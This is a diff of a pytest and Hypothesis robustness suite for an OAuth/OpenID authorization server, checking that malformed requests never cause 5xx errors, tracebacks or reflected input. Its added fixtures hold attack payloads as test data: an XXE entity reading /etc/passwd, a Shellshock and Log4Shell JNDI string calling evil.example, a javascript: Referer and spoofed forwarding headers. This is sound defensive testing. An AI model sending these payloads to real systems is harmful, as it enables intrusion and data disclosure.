@@ -1,34 +1,21 @@
 """Whatever comes in: never a status of 5xx, never a stack trace, and the next one is answered."""
 
-import socket
-from urllib.parse import urlsplit
-
 import pytest
 from hypothesis import HealthCheck, given, settings as examples, strategies as st
+from tests.server.http import wire
+from tests.server.http.well_formed import PATHS
 
 from throwaway.browser import asking
 from throwaway.instance import Instance
 
 
-PATHS = (
-    "/authorize",
-    "/login",
-    "/consent",
-    "/token",
-    "/auth/refresh",
-    "/revoke",
-    "/introspect",
-    "/userinfo",
-    "/jwks",
-    "/.well-known/openid-configuration",
-    "/health/ready",
-    "/x",
-)
 NAMES = tuple(
     "client_id client_secret redirect_uri response_type response_mode scope state code_challenge"  # noqa: SIM905  # shorter
     " code_challenge_method resource nonce prompt max_age login_hint grant_type code code_verifier"
     " refresh_token token token_type_hint access_token transaction csrf decision username password"
-    " switch request request_uri client_assertion client_assertion_type".split()
+    " switch request request_uri client_assertion client_assertion_type user_code device_code"
+    " subject_token subject_token_type actor_token audience id_token_hint claims dpop_jkt"
+    " post_logout_redirect_uri".split()
 )
 FORM = b"application/x-www-form-urlencoded"
 TEXT = st.one_of(
@@ -41,27 +28,6 @@ WIRE = st.one_of(ESCAPED, st.binary(max_size=30).map(lambda raw: raw.decode("lat
 QUIET = examples(
     max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
 )
-
-
-def send(instance: Instance, request: bytes) -> bytes:
-    """What comes back for bytes, up to the end of the connection."""
-    address = urlsplit(instance.server.base_url)
-    with socket.create_connection((str(address.hostname), int(address.port or 0)), 10) as line:
-        line.sendall(request)
-        line.shutdown(socket.SHUT_WR)
-        answer = b""
-        while chunk := line.recv(65536):
-            answer += chunk
-    return answer
-
-
-def status(answer: bytes) -> int:
-    return int(answer.split(b" ", 2)[1]) if answer else 0
-
-
-def assert_alive(instance: Instance) -> None:
-    assert instance.http.get("/health/live").status_code == 200
-    assert "Traceback" not in instance.server.log.read_text()
 
 
 @QUIET
@@ -106,60 +72,70 @@ def test_no_bytes_on_the_wire_make_the_server_fail(
         )
     )
     for sent in (request, request.replace(b"POST ", b"GET ", 1)):
-        answer = send(instance, sent)
-        assert status(answer) < 500
-        assert b"Traceback" not in answer
+        answer = wire.send(instance, sent)
+        assert answer is not None
+        assert answer.status < 500
+        assert b"Traceback" not in answer.body
 
 
-@pytest.mark.parametrize(
-    "request_bytes",
-    [
-        pytest.param(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", id="TLS"),
-        pytest.param(b"GET\r\n\r\n", id="no path"),
-        pytest.param(b"GET / HTTP/9.9\r\n\r\n", id="unknown version"),
-        pytest.param(b"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n", id="NUL in the path"),
-        pytest.param(b"GET http://[ HTTP/1.1\r\nHost: x\r\n\r\n", id="broken URL"),
-        pytest.param(b"GET /health HTTP/1.1\r\nHost: x\r\nA\r\n\r\n", id="header without a colon"),
-        pytest.param(b"GET /health HTTP/1.1\r\nHost: x\r\nA: \x7f\x00\r\n\r\n", id="control"),
-        pytest.param(b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n", id="100 KB of path"),
-        pytest.param(b"GET /health HTTP/1.1\r\n" + b"A: b\r\n" * 1000 + b"\r\n", id="1000 headers"),
-        pytest.param(
-            b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: x\r\n\r\n", id="length no number"
-        ),
-        pytest.param(
-            b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n"
-            b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
-            id="length and chunks",
-        ),
-        pytest.param(
-            b"POST /token HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
-            id="broken chunks",
-        ),
-        pytest.param(
-            b"POST /token HTTP/1.1\r\nHost: x\r\nContent-Type: " + FORM + b"\r\n"
-            b"Content-Length: 100\r\n\r\nshort",
-            id="body that ends early",
-        ),
-        pytest.param(b"OPTIONS * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", id="asterisk"),
-        pytest.param(b"CONNECT x:443 HTTP/1.1\r\nHost: x:443\r\n\r\n", id="CONNECT"),
-    ],
-)
-def test_what_is_hardly_http_is_refused_without_a_trace(
-    instance: Instance, request_bytes: bytes
-) -> None:
-    answer = send(instance, request_bytes)
-    assert status(answer) < 500
-    assert b"Traceback" not in answer
-    assert_alive(instance)
+@pytest.fixture(scope="module")
+def settings() -> dict[str, str]:
+    return {"CACHE_TTL": "0", "DYNAMIC_REGISTRATION": "open"}
 
 
-def test_a_malformed_header_is_logged_without_what_it_says(instance: Instance) -> None:
-    secret = b"the-canary-in-a-malformed-header"
-    send(instance, b"GET /health HTTP/1.1\r\nAuthorization: " + secret + b"\x00\r\n\r\n")
-    assert_alive(instance)
-    log = instance.server.log.read_text()
-    assert secret.decode() not in log
-    assert "malformed request" in log
+METHODS = ("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND")
+BODIES = {
+    "application/json": b'{"a": [1, 2.5, null, "b"]}',
+    "application/x-www-form-urlencoded": b"a=b",
+    "multipart/form-data; boundary=x": b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\nb",
+    "text/plain; charset=utf-7": b"+AGE-",
+    "text/html; charset=no-such": b"\xff\xfe",
+    "application/xml": b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
+    "": b"",
+}
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_no_method_and_no_kind_of_body_makes_the_server_fail(instance: Instance, path: str) -> None:
+    for method in METHODS:
+        for content_type, body in BODIES.items():
+            headers = {"Content-Type": content_type} if content_type else {}
+            answer = instance.http.request(method, path, content=body, headers=headers)
+            assert answer.status_code < 500
+            if method in {"PUT", "PATCH", "DELETE", "TRACE"} and "{" not in path:
+                assert answer.status_code == 405
+                assert answer.headers["Allow"]
+
+
+HEADERS = {
+    "Accept": "\xff/*;q=1e400, text/html;;;",
+    "Accept-Language": "*, de;q=nan" * 100,
+    "Authorization": "DPoP " + "a.b.c" * 3000,
+    "Content-Length": "0",
+    "Cookie": '__Host-authly_session="\\303"; __Host-authly_device=x.y.z; $Version=9',
+    "DPoP": "eyJ.eyJ.x",
+    "If-Modified-Since": "Thu, 99 Foo 99999 99:99:99 GMT",
+    "Origin": "null",
+    "Referer": "javascript:alert(1)",
+    "User-Agent": "() { :; }; /bin/false ${jndi:ldap://evil.example}",
+    "X-Forwarded-For": ", ,\xff,[::1, 1.2.3.4:99999, unknown" + ", 1.2.3.4" * 2000,
+    "X-Forwarded-Host": "evil.example",
+    "X-Forwarded-Proto": "javascript",
+    "X-Request-Id": "a" * 5000,
+    "Forwarded": 'for="[::1]:x";by=\xff;host=evil.example',
+    "X-HTTP-Method-Override": "DELETE",
+}
+
+
+@pytest.mark.parametrize("name", HEADERS)
+def test_no_header_makes_the_server_fail_or_say_what_it_said(instance: Instance, name: str) -> None:
+    for path in PATHS:
+        for method in ("GET", "POST"):
+            headers = [(name.encode(), HEADERS[name].encode("latin-1"))]
+            answer = instance.http.request(method, path, headers=headers)
+            assert answer.status_code < 500
+            assert "evil.example" not in answer.text
+            assert "evil.example" not in str(answer.headers)
 
 
 def test_all_of_that_left_no_trace_and_no_error_in_the_log(instance: Instance) -> None:
